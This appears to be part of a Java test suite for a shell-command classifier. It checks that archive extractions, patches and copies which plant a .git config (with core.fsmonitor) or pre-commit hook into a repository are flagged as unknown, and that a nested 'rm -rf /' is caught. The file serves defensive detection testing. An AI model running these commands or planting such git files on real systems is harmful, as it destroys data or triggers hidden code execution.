        sh(tmp, "mkdir -p src/x/.git/hooks ok/d repo out && printf '[core]\\n\\tfsmonitor = x\\n' > src/x/.git/config"
                + " && echo x > src/x/.git/hooks/pre-commit && echo hi > ok/d/f.txt && tar cf evil.tar -C src x"
                + " && tar czf evil.tgz -C src/x .git && tar cf ok.tar -C ok d && tar czf ok.tgz -C ok d"
                + " && (cd src/x && zip -qr ../../evil.zip .git) && (cd ok && zip -qr ../ok.zip d) && git init -q repo && echo x > repo/x.cpio"
                + " && git init -q --bare bare.git && echo x > pre-commit && tar cf hook.tar pre-commit && printf 'config\\n' > cfg.txt && tar cf cfg.tar cfg.txt"
                + " --transform 's,cfg.txt,config,' && printf -- '--- .git/config\\n+++ .git/config\\n@@ -1 +1 @@\\n-a\\n+b\\n'"
                + " > evil.diff && printf -- '--- a/d/f.txt\\n+++ b/d/f.txt\\n@@ -1 +1 @@\\n-hi\\n+ho\\n' > ok.diff");
        String t = tmp.toString();
        for (String script : new String[] {"tar xf " + t + "/evil.tar -C " + t + "/out --strip-components=1",
                "tar -x --strip-components 1 -f " + t + "/evil.tar -C " + t + "/out",
                "tar xzf " + t + "/evil.tgz -C " + t + "/out", "cd " + t + "/out && tar -xzf ../evil.tgz",
                "tar xf " + t + "/evil.tar -C " + t + "/out", "unzip -o " + t + "/evil.zip -d " + t + "/out",
                "cd " + t + "/repo && tar x < " + t + "/evil.tgz", "busybox tar -xf " + t + "/evil.tar -C " + t + "/out",
                "7z x " + t + "/evil.zip -o" + t + "/out", "cd " + t + "/out && patch -p0 -i " + t + "/evil.diff",
                "cd " + t + "/out && patch -p0 < " + t + "/evil.diff", "tar xf " + t + "/cfg.tar -C " + t + "/bare.git",
                // members hoop cannot read first, into a work tree or a git directory, or somewhere computed
                "cat " + t + "/ok.tar | tar x -C " + t + "/repo", "tar --transform 's,^d,.git,' -xf " + t + "/ok.tar -C " + t + "/repo",
                "cd " + t + "/repo/d2 2>/dev/null; tar xf \"$ARCHIVE\" -C " + t + "/repo", "tar xf " + t + "/hook.tar -C \"$(cat dest)\"",
                "git init -q " + t + "/new && base64 -d <<< AAAA | tar x -C " + t + "/new", "cd " + t + "/repo && cpio -id < x.cpio",
                "cd " + t + "/repo && patch -p1", "cd " + t + "/bare.git && ar x lib.a", "bsdtar -s ',^d,.git,' -xf " + t
                + "/ok.tar -C " + t + "/repo", "printf '%s' x > " + t + "/ok.tar; tar xf " + t + "/ok.tar -C " + t + "/repo",
                // trees copied into a work tree with a .git in them
                "cd " + t + "/repo && cp -r " + t + "/src/x/. .", "rsync -a " + t + "/src/x/ " + t + "/repo/",
                "cp -rT " + t + "/src/x " + t + "/repo", "mv " + t + "/src/x/.git " + t + "/repo/", "cp -a " + t + "/bare.git/. "
                + t + "/repo/.git", "cp -r \"$(cat src)\"/. " + t + "/repo"}) {
            ShellAnalysis a = ShellClassifier.analyzeScript(script);
            assertTrue(a.unknown(), () -> "expected unknown for: " + script + " got " + a.commands());
        }
        for (String script : new String[] {"tar xf " + t + "/ok.tar -C " + t + "/out", "cd " + t + "/repo && tar xzf ../ok.tgz",
                "cat " + t + "/ok.tar | tar x -C " + t + "/out", "unzip -o " + t + "/ok.zip -d " + t + "/repo",
                "cd " + t + "/repo && patch -p1 < " + t + "/ok.diff", "tar --transform 's,^d,e,' -xf " + t + "/ok.tar -C " + t + "/out",
                "tar tf " + t + "/evil.tar", "tar cf " + t + "/out/n.tar -C " + t + "/repo .", "git -C " + t + "/repo apply " + t + "/ok.diff",
                "7z x " + t + "/ok.zip -o" + t + "/repo", "tar xf " + t + "/ok.tar -C \"$(cat dest)\"",
                "cp -r " + t + "/repo " + t + "/copy", "cp -r " + t + "/ok/. " + t + "/repo", "rsync -a " + t + "/ok/ " + t + "/repo/",
                "mv " + t + "/ok/d " + t + "/repo/", "cp -r " + t + "/src/x/. " + t + "/out"}) {
            ShellAnalysis a = ShellClassifier.analyzeScript(script);
            assertTrue(!a.unknown(), () -> "expected known for: " + script + " got " + a.unknownReasons());
        }
    }

    @ParameterizedTest
    @ValueSource(ints = {9, 12})
    void nestingBeyondLimitIsUnknown(int levels) {
        String script = "rm -rf /";
        for (int i = 0; i < levels; i++) {
            script = "bash -c '" + script.replace("'", "'\\''") + "'";
        }
        assertTrue(ShellClassifier.analyzeScript(script).unknown());
    }
}
